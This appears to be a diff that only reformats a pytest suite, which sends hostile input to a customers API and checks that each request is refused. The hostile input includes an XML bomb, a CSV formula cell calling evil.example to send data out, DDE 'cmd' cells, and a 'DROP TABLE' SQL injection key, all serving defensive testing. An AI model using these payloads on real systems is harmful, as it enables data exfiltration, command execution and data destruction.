@@ -6,7 +6,6 @@ import json
 
 import httpx
 import pytest
-
 from access_util import own_app
 from conftest import assert_problem
 from reliability_util import Server
@@ -26,8 +25,9 @@ def _up(client):
 
 def test_ten_megabyte_json_is_413(client, customers_url):
     body = json.dumps({"lastName": "x" * TEN_MB}).encode()
-    assert_problem(client.post(customers_url, content=body,
-                               headers={"Content-Type": "application/json"}), 413)
+    assert_problem(
+        client.post(customers_url, content=body, headers={"Content-Type": "application/json"}), 413
+    )
     assert _count(client, customers_url) == 0
     _up(client)
 
@@ -82,9 +82,11 @@ def test_nul_bytes_are_422_everywhere(client, customers_url):
 
 @pytest.mark.parametrize("depth", [200, 10_000, 200_000])
 def test_deeply_nested_json_is_4xx(client, customers_url, depth):
-    for body in ("[" * depth + "]" * depth,
-                 '{"lastName": ' + '{"a": ' * depth + "1" + "}" * depth + "}",
-                 '{"addresses": ' + "[" * depth + "]" * depth + "}"):
+    for body in (
+        "[" * depth + "]" * depth,
+        '{"lastName": ' + '{"a": ' * depth + "1" + "}" * depth + "}",
+        '{"addresses": ' + "[" * depth + "]" * depth + "}",
+    ):
         r = client.post(customers_url, content=body.encode(), headers={"Content-Type": "application/json"})
         assert r.status_code in (400, 413, 422), r.text[:300]
         assert_problem(r, r.status_code)
@@ -108,14 +110,19 @@ def test_huge_strings_are_422(client, customers_url):
 
 
 def test_invalid_utf8_is_400(client, customers_url):
-    for raw in (b'{"lastName": "\xff\xfe"}', b'{"lastName": "\xc3"}', b"\xef\xbb\xbf\xff",
-                b'{"lastName": "\xed\xa0\x80"}'):
+    for raw in (
+        b'{"lastName": "\xff\xfe"}',
+        b'{"lastName": "\xc3"}',
+        b"\xef\xbb\xbf\xff",
+        b'{"lastName": "\xed\xa0\x80"}',
+    ):
         r = client.post(customers_url, content=raw, headers={"Content-Type": "application/json"})
         assert_problem(r, r.status_code)
         assert r.status_code in (400, 422), r.text
     # Lone surrogates as JSON escapes are valid JSON but not text.
-    r = client.post(customers_url, content=b'{"lastName": "\\ud800"}',
-                    headers={"Content-Type": "application/json"})
+    r = client.post(
+        customers_url, content=b'{"lastName": "\\ud800"}', headers={"Content-Type": "application/json"}
+    )
     assert_problem(r, 422, "lastName")
     # Invalid UTF-8 in the path and the query.
     r = client.get(f"{customers_url}/%FF%FE")
@@ -128,9 +135,12 @@ def test_invalid_utf8_is_400(client, customers_url):
 
 
 def test_wrong_content_types_are_4xx(client, customers_url):
-    for ctype, raw in (("text/plain", b'{"lastName": "x"}'), ("application/xml", b"<a/>"),
-                       ("application/x-www-form-urlencoded", b"lastName=x"),
-                       ("multipart/form-data; boundary=x", b"--x--")):
+    for ctype, raw in (
+        ("text/plain", b'{"lastName": "x"}'),
+        ("application/xml", b"<a/>"),
+        ("application/x-www-form-urlencoded", b"lastName=x"),
+        ("multipart/form-data; boundary=x", b"--x--"),
+    ):
         r = client.post(customers_url, content=raw, headers={"Content-Type": ctype})
         assert 400 <= r.status_code < 500, (ctype, r.status_code, r.text)
     assert _count(client, customers_url) == 0
@@ -152,9 +162,13 @@ BILLION_LAUGHS = b"""<?xml version="1.0"?>
 def test_billion_laughs_is_refused_wherever_a_body_is_read(client, customers_url):
     """No endpoint reads XML (export.xml only writes it): an XML bomb sent to any body-taking
     customer endpoint, import and export included, is a clear 4xx and expands nothing."""
-    for method, path in (("POST", customers_url), ("POST", f"{customers_url}/import"),
-                         ("POST", f"{customers_url}/export.xml"), ("DELETE", customers_url),
-                         ("POST", f"{customers_url}/search")):
+    for method, path in (
+        ("POST", customers_url),
+        ("POST", f"{customers_url}/import"),
+        ("POST", f"{customers_url}/export.xml"),
+        ("DELETE", customers_url),
+        ("POST", f"{customers_url}/search"),
+    ):
         for ctype in ("application/xml", "text/xml", "application/json", "text/csv"):
             r = client.request(method, path, content=BILLION_LAUGHS, headers={"Content-Type": ctype})
             assert 400 <= r.status_code < 500, (method, path, ctype, r.status_code, r.text[:300])
@@ -166,16 +180,21 @@ def test_billion_laughs_is_refused_wherever_a_body_is_read(client, customers_url
 def test_csv_import_refuses_a_formula_cell(client, customers_url):
     """A cell a spreadsheet would run (=, +, -, @ first, not a number) that the export did
     not neutralize with a leading ' cannot be told from an attack: refused, nothing stored."""
-    for cell in ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0",
-                 "+SUM(1+1)", "@SUM(1)", "-2+3+cmd|' /C calc'!A0"):
+    for cell in (
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "=cmd|' /C calc'!A0",
+        "+SUM(1+1)",
+        "@SUM(1)",
+        "-2+3+cmd|' /C calc'!A0",
+    ):
         csv = f'lastName,firstName\nVirtanen,Aino\n"{cell.replace(chr(34), chr(34) * 2)}",Matti\n'
-        r = client.post(f"{customers_url}/import", content=csv.encode(),
-                        headers={"Content-Type": "text/csv"})
+        r = client.post(f"{customers_url}/import", content=csv.encode(), headers={"Content-Type": "text/csv"})
         assert_problem(r, 422)
         assert _count(client, customers_url) == 0, f"stored with {cell!r}"
     # The export's own neutralized form imports as the text it stands for.
-    r = client.post(f"{customers_url}/import", content=b"lastName\n'=Virtanen\n",
-                    headers={"Content-Type": "text/csv"})
+    r = client.post(
+        f"{customers_url}/import", content=b"lastName\n'=Virtanen\n", headers={"Content-Type": "text/csv"}
+    )
     assert r.status_code == 200, r.text
     assert client.get(f"{customers_url}/1").json()["lastName"] == "=Virtanen"
 
@@ -184,6 +203,7 @@ def test_live_server_survives_hostile_input(database_url, client, company, custo
     """On a real uvicorn: a chunked 11 MB body, a declared 10 MB one, deep nesting and
     invalid UTF-8, then ordinary requests still work."""
     with Server(database_url, max_body_bytes=str(5 * 1024 * 1024)) as server, server.http() as http:
+
         def chunks():
             for _ in range(11):
                 yield b"x" * (1024 * 1024)
@@ -204,8 +224,22 @@ def test_live_server_survives_hostile_input(database_url, client, company, custo
     assert _count(client, customers_url) == 1
 
 
-@pytest.mark.parametrize("key", ["²", "١٢", "9" * 30, "9223372036854775808", "-1", "1e5", "0x10",
-                                 "%20", "1;DROP TABLE customers", "'", "\u202e1"])
+@pytest.mark.parametrize(
+    "key",
+    [
+        "²",
+        "١٢",
+        "9" * 30,
+        "9223372036854775808",
+        "-1",
+        "1e5",
+        "0x10",
+        "%20",
+        "1;DROP TABLE customers",
+        "'",
+        "\u202e1",
+    ],
+)
 def test_odd_customer_keys_are_404(client, customers_url, key):
     create = client.post(customers_url, json={"lastName": "Virtanen"})
     assert create.status_code == 201
@@ -213,7 +247,9 @@ def test_odd_customer_keys_are_404(client, customers_url, key):
         kwargs = {"json": {"lastName": "X"}} if method in ("PATCH", "PUT") else {}
         r = client.request(method, f"{customers_url}/{key}", **kwargs)
         assert r.status_code in (404, 405), (method, key, r.status_code, r.text[:200])
-    r = client.request("DELETE", customers_url, json=[key, int(key) if key.isascii() and key.isdigit() else key])
+    r = client.request(
+        "DELETE", customers_url, json=[key, int(key) if key.isascii() and key.isdigit() else key]
+    )
     assert_problem(r, 404)
     r = client.get(f"{customers_url}/{key}/addresses")
     assert r.status_code == 404, r.text[:200]
